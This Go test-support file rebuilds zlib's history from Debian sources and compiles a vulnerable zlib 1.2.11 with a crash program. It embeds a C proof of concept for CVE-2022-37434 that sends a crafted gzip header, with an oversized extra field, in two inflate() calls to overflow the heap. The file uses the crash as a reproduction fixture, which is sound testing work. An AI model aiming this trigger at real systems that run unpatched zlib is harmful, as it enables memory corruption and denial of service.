package gitsrctest

// zlib as issue 22 met it: CVE-2022-37434 (a heap overflow in inflate()
// reading a gzip header's extra field) in a zlib built -g -O2 under a
// build prefix that no longer exists, crashed with the public shape of the
// bug. Its history is built from Debian's sources (Sources indexes of
// bullseye, bookworm and trixie): the releases 1.2.11, 1.2.13 and 1.3.1
// tagged as zlib tags them (v1.2.11…) on zlib's default branch develop,
// and between 1.2.11 and 1.2.13 the three upstream fixes Debian applied
// to 1.2.11 in 1:1.2.11.dfsg-2+deb11u2: 5c44459c (CVE-2018-25032, deflate),
// eff308af (CVE-2022-37434) and its follow-up 1eb7682f, with Mark Adler's
// messages and dates.

var (
	zlibOrig11  = DebianFile{"zlib", "zlib_1.2.11.dfsg.orig.tar.gz", "80c481411a4fe8463aeb8270149a0e80bb9eaf7da44132b6e16f2b5af01bc899"}
	zlibPatches = DebianFile{"zlib", "zlib_1.2.11.dfsg-2+deb11u2.debian.tar.xz", "c19794df214f0c2571b19f7dea853c066410232abe9f0ddad77231fabccde0da"}
	zlibOrig13  = DebianFile{"zlib", "zlib_1.2.13.dfsg.orig.tar.bz2", "71feb7947e3c00ef125f83b79a4e529bde31171e5babe48b391f06758d1ab0a1"}
	zlibOrig131 = DebianFile{"zlib", "zlib_1.3.dfsg+really1.3.1.orig.tar.gz", "60dd315c07f616887caa029408308a018ace66e3d142726a97db164b3b8f69fb"}
)

// DebianFiles are every Debian file the built upstream histories read
// (what .ci/install.d/upstreams.sh fetches).
var DebianFiles = []DebianFile{zlibOrig11, zlibPatches, zlibOrig13, zlibOrig131,
	expatOrig2210, expatPatches, expatOrig250, expatOrig271, snappyOrig119, snappyPatches, snappyOrig122}

// ZlibHistory is zlib's history as Debian's sources give it.
var ZlibHistory = History{Name: "zlib", Branch: "develop", Steps: []Step{
	{Release: &Release{Tag: "v1.2.11", Orig: zlibOrig11, Author: "Mark Adler <madler@alumni.caltech.edu>",
		Date: "2017-01-15T09:29:40-08:00", Message: "zlib 1.2.11"}},
	{Fix: &Fix{Set: zlibPatches, Name: "Fix-a-bug-that-can-crash-deflate-on-some-input-when-.patch"}},
	{Fix: &Fix{Set: zlibPatches, Name: "Fix-a-bug-when-getting-a-gzip-header-extra-field-wit.patch"}},
	{Fix: &Fix{Set: zlibPatches, Name: "Fix-extra-field-processing-bug-that-dereferences-NUL.patch"}},
	{Release: &Release{Tag: "v1.2.13", Orig: zlibOrig13, Author: "Mark Adler <fork@madler.net>",
		Date: "2022-10-12T22:56:08-07:00", Message: "zlib 1.2.13"}},
	{Release: &Release{Tag: "v1.3.1", Orig: zlibOrig131, Author: "Mark Adler <fork@madler.net>",
		Date: "2024-01-22T10:32:37-08:00", Message: "zlib 1.3.1"}},
}}

// ZlibCrashSource is the public shape of CVE-2022-37434: inflate() with a
// gzip header whose extra field is larger than the buffer given to
// inflateGetHeader(), delivered over two calls: the second call's copy
// length underflows and memcpy runs off the heap.
const ZlibCrashSource = `#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <zlib.h>

int main(void)
{
    enum { XLEN = 60000 };
    static const unsigned char hdr[10] = {0x1f, 0x8b, 8, 4, 0, 0, 0, 0, 0, 3};
    unsigned char *in = malloc(12 + XLEN);
    unsigned char out[64];
    gz_header head;
    z_stream strm;

    memcpy(in, hdr, 10);            /* gzip, deflate, FEXTRA */
    in[10] = XLEN & 0xff;
    in[11] = XLEN >> 8;
    memset(in + 12, 'A', XLEN);
    memset(&strm, 0, sizeof strm);
    memset(&head, 0, sizeof head);
    if (inflateInit2(&strm, 15 + 16) != Z_OK)
        return 1;
    head.extra = malloc(16);
    head.extra_max = 16;
    inflateGetHeader(&strm, &head);
    strm.next_in = in;              /* the header and more extra than fits */
    strm.avail_in = 12 + 100;
    strm.next_out = out;
    strm.avail_out = sizeof out;
    inflate(&strm, Z_NO_FLUSH);
    strm.next_in = in + 12 + 100;   /* the rest of the extra field */
    strm.avail_in = XLEN - 100;
    inflate(&strm, Z_NO_FLUSH);
    puts("not reached");
    return 0;
}
`

// zlibBuild builds libz.so.1.2.11 as a distribution would, -g -O2.
var zlibBuild = LibBuild{History: ZlibHistory, Tag: "v1.2.11", Prefix: "zlib-1.2.11", Lib: "libz.so.1.2.11",
	Soname: "libz.so.1", Version: "zlib.map",
	Sources: []string{"adler32.c", "compress.c", "crc32.c", "deflate.c", "gzclose.c", "gzlib.c", "gzread.c",
		"gzwrite.c", "infback.c", "inffast.c", "inflate.c", "inftrees.c", "trees.c", "uncompr.c", "zutil.c"},
	CFlags:  []string{"-D_LARGEFILE64_SOURCE=1", "-DHAVE_HIDDEN"},
	Program: "zcrash.c", ProgramSource: ZlibCrashSource, Link: "-lz"}

// Zlib builds (once, in the test cache) zlib's history, libz.so.1.2.11
// from its v1.2.11 tag with gcc -g -O2 under a build prefix that is then
// removed, and the crash.
func Zlib() (*LibCrash, error) { return zlibBuild.Build() }
